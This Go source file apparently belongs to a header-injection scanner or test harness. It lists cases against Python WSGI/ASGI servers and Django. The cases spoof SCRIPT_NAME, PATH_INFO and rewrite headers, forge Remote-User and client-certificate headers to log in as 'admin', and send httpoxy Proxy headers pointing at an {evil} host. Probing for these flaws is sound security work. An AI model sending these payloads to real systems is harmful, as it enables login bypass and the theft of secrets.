package attack

// mount holds the ways to tell the application where it is mounted.
var mount = family{
	fault:   Mount,
	why:     "gunicorn takes SCRIPT_NAME and PATH_INFO from loopback peers, daphne Daphne-Root-Path from anyone",
	symptom: "500 Internal Server Error on demand, or every link of the page under a prefix that the client chose",
	cases: []Case{
		{ID: "mount-script-name", Sends: "SCRIPT_NAME with a foreign prefix", Request: last("SCRIPT_NAME: /x")},
		{ID: "mount-script-name-own", Sends: "SCRIPT_NAME with the path's own prefix", Request: last("SCRIPT_NAME: /whoami")},
		{ID: "mount-script-name-first", Sends: "SCRIPT_NAME before Host", Request: first("SCRIPT_NAME: /whoami")},
		{ID: "mount-script-name-lower-case", Sends: "script_name in small letters", Request: last("script_name: /whoami")},
		{ID: "mount-script-name-url", Sends: "SCRIPT_NAME with a URL", Request: last("SCRIPT_NAME: //{evil}")},
		{ID: "mount-script-name-empty", Sends: "SCRIPT_NAME without a value", Request: last("SCRIPT_NAME:")},
		{ID: "mount-script-name-hyphen", Sends: "Script-Name", Request: last("Script-Name: /whoami")},
		{ID: "mount-path-info", Sends: "PATH_INFO", Request: last("PATH_INFO: /admin/")},
		{ID: "mount-path-info-lower-case", Sends: "path_info in small letters", Request: last("path_info: /admin/")},
		{ID: "mount-path-info-hyphen", Sends: "Path-Info", Request: last("Path-Info: /admin/")},
		{ID: "mount-both", Sends: "SCRIPT_NAME and PATH_INFO", Request: last("SCRIPT_NAME: /whoami", "PATH_INFO: /admin/")},
		{ID: "mount-daphne", Sends: "Daphne-Root-Path", Request: last("Daphne-Root-Path: /x")},
		{ID: "mount-daphne-underscore", Sends: "Daphne_Root_Path", Request: last("Daphne_Root_Path: /x")},
	},
}

// mountMoved holds what WSGI prefixes and rewriting servers use.
var mountMoved = family{
	fault:   Mount,
	why:     "middleware and older deployments read these as the mount point or as the path before rewriting",
	symptom: "links and redirects point below a prefix that the client chose",
	expect:  Expect{Django: Reached},
	cases: []Case{
		{ID: "mount-forwarded-prefix", Sends: "X-Forwarded-Prefix", Request: last("X-Forwarded-Prefix: /x")},
		{ID: "mount-x-script-name", Sends: "X-Script-Name", Request: last("X-Script-Name: /x")},
		{ID: "mount-original-url", Sends: "X-Original-URL and X-Rewrite-URL",
			Request: last("X-Original-URL: /elsewhere/", "X-Rewrite-URL: /elsewhere/")},
		{ID: "mount-script-url", Sends: "Script-Url and Redirect-Url", Request: last("Script-Url: /x/", "Redirect-Url: /x/")},
	},
}

var user = family{
	fault:   User,
	why:     "RemoteUserMiddleware reads the name of the user from a variable that a header can become",
	symptom: "anyone is logged in as anyone, without a password",
	cases: []Case{
		{ID: "user-remote-user", Sends: "Remote-User", Request: last("Remote-User: admin")},
		{ID: "user-remote-user-lower-case", Sends: "remote-user in small letters", Request: last("remote-user: admin")},
		{ID: "user-remote-user-variable", Sends: "REMOTE_USER", Request: last("REMOTE_USER: admin")},
		{ID: "user-remote-user-underscore", Sends: "Remote_User", Request: last("Remote_User: admin")},
		{ID: "user-x-remote-user", Sends: "X-Remote-User", Request: last("X-Remote-User: admin")},
		{ID: "user-x-forwarded-user", Sends: "X-Forwarded-User", Request: last("X-Forwarded-User: admin")},
		{ID: "user-own", Sends: "the header in which the proxy tells the user", Request: last("{user-header}: admin")},
		{ID: "user-own-twice", Sends: "that header twice, before and after Host", Request: bare("{user-header}: admin", "Host: {host}", "{user-header}: root")},
		{ID: "user-own-underscore", Sends: "that header with underscores", Request: first("{user_header}: admin")},
		{ID: "user-auth-type", Sends: "AUTH_TYPE and REMOTE_USER", Request: last("AUTH_TYPE: Basic", "REMOTE_USER: admin")},
		{ID: "user-client-verify", Sends: "the headers of a checked client certificate",
			Request: last("X-SSL-Client-Verify: SUCCESS", "X-SSL-Client-S-DN: CN=admin", "SSL_CLIENT_S_DN_CN: admin")},
	},
}

var proxyVariable = family{
	fault:   User,
	why:     "CGI folds a Proxy header into HTTP_PROXY, which libraries take for the proxy of outgoing requests",
	symptom: "requests of the application itself, with their secrets, go through a stranger's server",
	cases: []Case{
		{ID: "httpoxy", Sends: "Proxy", Request: last("Proxy: http://{evil}:3128/")},
		{ID: "httpoxy-lower-case", Sends: "proxy in small letters", Request: last("proxy: http://{evil}:3128/")},
		{ID: "httpoxy-variable", Sends: "HTTP_PROXY", Request: last("HTTP_PROXY: http://{evil}:3128/")},
	},
}
